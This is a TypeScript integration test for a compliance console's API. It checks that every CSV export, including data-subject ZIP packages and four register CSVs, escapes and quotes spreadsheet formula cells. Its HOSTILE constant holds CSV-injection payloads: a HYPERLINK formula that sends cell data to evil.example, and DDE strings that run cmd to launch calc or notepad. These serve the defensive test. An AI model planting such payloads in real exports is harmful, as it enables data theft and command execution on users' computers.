import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestConsole, type TestConsole } from '../support/test-console';
import { readZip } from '../support/zip';
import { createApiKey, postBatch } from '../support/ingest';

/**
 * CSV formula injection: text that people send (a lead's name, a chat message, a register entry)
 * must come out of every CSV the API writes with a `'` before a leading = + - @ tab or CR, and
 * quoted, so that a spreadsheet shows it instead of running it. A plain negative number is no
 * formula and is left alone. (The lists' Export button writes its CSV in the browser:
 * tests/unit/csv-cells.test.ts.)
 */

const HOSTILE = {
  hyperlink: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  dde: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: "+1+cmd|' /C notepad'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
};

/** RFC 4180 as spreadsheets read it: the raw text of each cell, and its value. */
function parseCsv(text: string): Array<Array<{ raw: string; value: string }>> {
  const rows: Array<Array<{ raw: string; value: string }>> = [];
  let row: Array<{ raw: string; value: string }> = [];
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  while (i < text.length) {
    const start = i;
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unterminated quote');
        value += text.slice(i, quote);
        if (text[quote + 1] === '"') {
          value += '"';
          i = quote + 2;
        } else {
          i = quote + 1;
          break;
        }
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') i++;
      value = text.slice(start, i);
    }
    row.push({ raw: text.slice(start, i), value });
    if (text[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      i++;
    }
  }
  return rows;
}

/** Every cell of a CSV read back: none begins as a formula, and the hostile values are there, neutralised. */
function expectNeutralised(name: string, text: string, mustHold: string[]) {
  const rows = parseCsv(text);
  expect(rows.length, name).toBeGreaterThan(1);
  const values: string[] = [];
  for (const row of rows) {
    for (const cell of row) {
      values.push(cell.value);
      if (/^[=+\-@\t\r]/.test(cell.value)) {
        expect(cell.value, `${name}: ${JSON.stringify(cell.raw)}`).toMatch(/^-\d+(\.\d+)?$/);
      }
      if (cell.value.startsWith("'") && /^'[=+\-@\t\r]/.test(cell.value))
        expect(cell.raw.startsWith('"\''), `${name}: ${JSON.stringify(cell.raw)} quoted`).toBe(true);
    }
  }
  for (const hostile of mustHold) {
    expect(
      values.some((v) => v === `'${hostile}` || v.includes(`'${hostile}`)),
      `${name} holds ${JSON.stringify(hostile)} neutralised`,
    ).toBe(true);
  }
  return values;
}

describe('CSV formula injection: every CSV neutralises cells a spreadsheet would run', () => {
  let c: TestConsole;
  let token: string;
  let key: string;
  const ingest = (source: string, body: unknown) => postBatch(c, key, source, body);
  const download = async (path: string) => {
    const res = await fetch(`${c.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    expect(res.status, path).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };

  beforeAll(async () => {
    c = await startTestConsole();
    token = await c.login();
    key = await createApiKey(c, token);
  });
  afterAll(() => c?.close());

  it.each(['access', 'portability'])('the %s package: every CSV of the ZIP', async (kind) => {
    const email = `formula.${kind}@example.org`;
    const leads = await ingest('leads', [
      {
        externalId: `${kind}-l1`,
        firstName: HOSTILE.hyperlink,
        lastName: HOSTILE.dde,
        email,
        message: HOSTILE.plus,
        utmSource: HOSTILE.minus,
        submittedAt: '2026-11-02T10:00:00Z',
      },
    ]);
    expect(leads.status, JSON.stringify(leads.body)).toBe(200);
    const chat = await ingest('chat-conversations', {
      externalId: `${kind}-c1`,
      provider: 'anthropic',
      startedAt: '2026-11-05T18:00:00Z',
      messages: [
        { role: 'user', content: `${HOSTILE.tab} ${email}`, sentAt: '2026-11-05T18:00:05Z' },
        { role: 'user', content: `${HOSTILE.cr} ${email}`, sentAt: '2026-11-05T18:00:06Z' },
        { role: 'user', content: '-5', sentAt: '2026-11-05T18:00:07Z' },
      ],
    });
    expect(chat.status, JSON.stringify(chat.body)).toBe(200);
    const events = await ingest('calendar-events', [
      {
        externalId: `${kind}-e1`,
        origin: 'manual',
        title: HOSTILE.hyperlink,
        attendees: [{ email, name: HOSTILE.dde }],
        startsAt: '2026-11-20T09:00:00Z',
        endsAt: '2026-11-20T10:00:00Z',
      },
    ]);
    expect(events.status, JSON.stringify(events.body)).toBe(200);
    const request = await c.api('/api/requests', {
      token,
      body: {
        type: kind,
        channel: 'email',
        language: 'en',
        receivedAt: new Date().toISOString(),
        subjectName: 'Formula Person',
        subjectEmail: email,
      },
    });
    expect(request.status, JSON.stringify(request.body)).toBe(201);
    await c.api(`/api/requests/${request.body.id}/verify`, { token, body: { method: 'email_from_known_address' } });
    const zip = await readZip(await download(`/api/requests/${request.body.id}/export.zip?kind=${kind}`));
    const csvs = [...zip.keys()].filter((p) => p.endsWith('.csv'));
    expect(csvs).toEqual(
      expect.arrayContaining(['data/leads.csv', 'data/chat-messages.csv', 'data/calendar-events.csv']),
    );
    for (const path of csvs) {
      const text = zip.get(path)!.toString('utf8');
      const mustHold =
        path === 'data/leads.csv'
          ? [HOSTILE.hyperlink, HOSTILE.dde, HOSTILE.plus, ...(kind === 'access' ? [HOSTILE.minus] : [])]
          : path === 'data/chat-messages.csv'
            ? [HOSTILE.tab, HOSTILE.cr]
            : path === 'data/calendar-events.csv'
              ? [HOSTILE.hyperlink]
              : [];
      const values = expectNeutralised(`${kind} ${path}`, text, mustHold);
      // A plain negative number is no formula: left as it is, unquoted.
      if (path === 'data/chat-messages.csv') {
        expect(values).toContain('-5');
        expect(text).toMatch(/(^|,)-5(,|\n)/m);
      }
      // The JSON beside it keeps the exact text.
      if (path === 'data/leads.csv')
        expect(JSON.parse(zip.get('data/leads.json')!.toString())[0].firstName).toBe(HOSTILE.hyperlink);
    }
  });

  it('the four register CSVs', async () => {
    const processor = await c.api('/api/processors', {
      token,
      body: {
        name: HOSTILE.hyperlink,
        service: HOSTILE.plus,
        dataCategories: [HOSTILE.dde, 'E-mail'],
        location: HOSTILE.minus,
        country: 'fr',
        transferMechanism: 'none',
        notes: HOSTILE.tab,
      },
    });
    expect(processor.status, JSON.stringify(processor.body)).toBe(201);
    const retention = await c.api('/api/retention-policies', {
      token,
      body: { key: 'formula', name: HOSTILE.dde, periodText: HOSTILE.plus, action: 'delete', basis: HOSTILE.hyperlink },
    });
    expect(retention.status, JSON.stringify(retention.body)).toBe(201);
    const activity = await c.api('/api/activities', {
      token,
      body: {
        name: HOSTILE.hyperlink,
        purposes: HOSTILE.minus,
        legalBasis: 'consent',
        consentCategory: 'marketing',
        subjectCategories: [HOSTILE.plus],
      },
    });
    expect(activity.status, JSON.stringify(activity.body)).toBe(201);
    const cookie = await c.api('/api/cookies', {
      token,
      body: {
        name: HOSTILE.hyperlink,
        kind: 'cookie',
        provider: HOSTILE.dde,
        category: 'necessary',
        purpose: HOSTILE.plus,
        duration: HOSTILE.minus,
        party: 'first',
        listedIn: 'l',
      },
    });
    expect(cookie.status, JSON.stringify(cookie.body)).toBe(201);

    expectNeutralised('processors', (await download('/api/processors/export.csv')).toString('utf8'), [
      HOSTILE.hyperlink,
      HOSTILE.plus,
      HOSTILE.dde,
      HOSTILE.minus,
    ]);
    expectNeutralised('retention-policies', (await download('/api/retention-policies/export.csv')).toString('utf8'), [
      HOSTILE.dde,
      HOSTILE.plus,
      HOSTILE.hyperlink,
    ]);
    expectNeutralised('activities', (await download('/api/activities/export.csv')).toString('utf8'), [
      HOSTILE.hyperlink,
      HOSTILE.minus,
    ]);
    expectNeutralised('cookies', (await download('/api/cookies/export.csv')).toString('utf8'), [
      HOSTILE.hyperlink,
      HOSTILE.dde,
      HOSTILE.plus,
      HOSTILE.minus,
    ]);
  });

  it('covers the CSV and ZIP endpoints of the OpenAPI document that issue 22 listed', async () => {
    // A CSV endpoint added since (the breach register's) writes through csvLine too; its own tests read it back.
    const doc = (await c.api('/api/docs-json', { token })).body as { paths: Record<string, unknown> };
    const csvPaths = Object.keys(doc.paths).filter((p) => /\.(csv|zip)$/.test(p));
    expect(csvPaths).toEqual(
      expect.arrayContaining([
        '/api/activities/export.csv',
        '/api/cookies/export.csv',
        '/api/processors/export.csv',
        '/api/requests/{id}/export.zip',
        '/api/retention-policies/export.csv',
      ]),
    );
  });
});
